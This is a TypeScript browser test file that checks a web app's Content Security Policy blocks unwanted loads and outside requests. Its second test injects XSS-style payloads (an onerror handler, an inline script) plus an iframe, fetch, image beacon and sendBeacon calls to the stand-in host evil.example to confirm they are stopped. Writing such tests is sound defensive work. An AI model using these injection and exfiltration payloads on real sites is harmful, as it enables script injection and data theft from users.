import { globSync, readFileSync } from 'node:fs'
import { join, resolve } from 'node:path'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { launchBrowser, PHONE, type Visit, visitAs } from './support/browser.ts'
import { signedIn } from './support/citizen.ts'
import { type Saola, startSaola } from './support/saola.ts'

/* What a page may load and run, as a browser sees to it. */
let saola: Saola
let browser: Browser

beforeAll(async () => {
  saola = await startSaola()
  browser = await launchBrowser()
})
afterAll(async () => {
  await browser?.close()
  await saola?.stop()
})

const root = resolve(import.meta.dirname, '..')
/** The addresses of the pages that modules add to a face, as far as they name no thing. */
const pathsOf = (face: 'console' | 'citizen') =>
  globSync(`src/{base,capabilities}/*/web/${face}.ts`, { cwd: root })
    .flatMap(file => [...readFileSync(join(root, file), 'utf8').matchAll(/\bpath: '(\/[^':]*)'/g)])
    .map(([, path]) => path as string)

interface Watched {
  readonly broken: string[]
  readonly elsewhere: string[]
}

/** Notes what the policy stopped, and what was asked of anybody else. */
async function watch({ context, page }: Visit): Promise<Watched> {
  const seen: Watched = { broken: [], elsewhere: [] }
  await context.exposeFunction('tellBroken', (text: string) => void seen.broken.push(text))
  await context.addInitScript(() => {
    addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sourceFile, lineNumber }) => {
      const { tellBroken } = globalThis as unknown as { tellBroken(text: string): void }
      tellBroken(`${location.pathname}: ${violatedDirective} of ${blockedURI} at ${sourceFile}:${lineNumber}`)
    })
  })
  page.on('request', request => {
    const { origin, protocol } = new URL(request.url())
    if (/^https?:$/.test(protocol) && origin !== saola.url) seen.elsewhere.push(request.url())
  })
  return seen
}

async function visitAll(page: Page, paths: readonly string[]): Promise<void> {
  for (const path of paths) {
    await page.goto(path)
    await page.getByRole('main').getByRole('heading').or(page.getByRole('heading')).first().waitFor()
  }
}

test('no page wants more than its policy lets it, and none asks anybody else for anything', {
  timeout: 600_000,
}, async () => {
  const officer = await visitAs(browser, saola.url, 'truyvet')
  const seen = await watch(officer)
  const console = pathsOf('console')
  expect(console.length).toBeGreaterThan(30)
  await visitAll(officer.page, ['/console', ...console.map(path => `/console${path}`)])
  const citizen = await signedIn(browser, saola, '0905111222')
  const seenThere = await watch(citizen)
  await visitAll(citizen.page, ['/', ...pathsOf('citizen')])
  await citizen.page.setViewportSize(PHONE)
  await visitAll(citizen.page, ['/site'])
  expect([...seen.broken, ...seenThere.broken]).toEqual([])
  expect([...seen.elsewhere, ...seenThere.elsewhere]).toEqual([])
})

test('what somebody brings into a page runs nothing, sends nothing away and is seen', async () => {
  const officer = await visitAs(browser, saola.url, 'truyvet')
  const seen = await watch(officer)
  for (const path of ['/console', '/site']) {
    await officer.page.goto(path)
    await officer.page.evaluate(() => {
      const image = document.createElement('div')
      image.innerHTML =
        '<img src="x" onerror="document.title = \'taken\'"><iframe src="https://evil.example/"></iframe>'
      document.body.append(image)
      const script = document.createElement('script')
      script.textContent = "document.title = 'taken'"
      document.body.append(script)
      const far = document.createElement('img')
      far.src = 'https://evil.example/?told'
      document.body.append(far)
      void fetch('https://evil.example/', { method: 'POST', body: 'told', mode: 'no-cors' }).catch(() => {})
      navigator.sendBeacon('https://evil.example/', 'told')
    })
    for (const directive of ['script-src-attr', 'script-src-elem', 'img-src', 'connect-src', 'frame-src'])
      await expect.poll(() => seen.broken.some(one => one.startsWith(path) && one.includes(directive))).toBe(true)
    expect(await officer.page.title()).not.toBe('taken')
  }
})
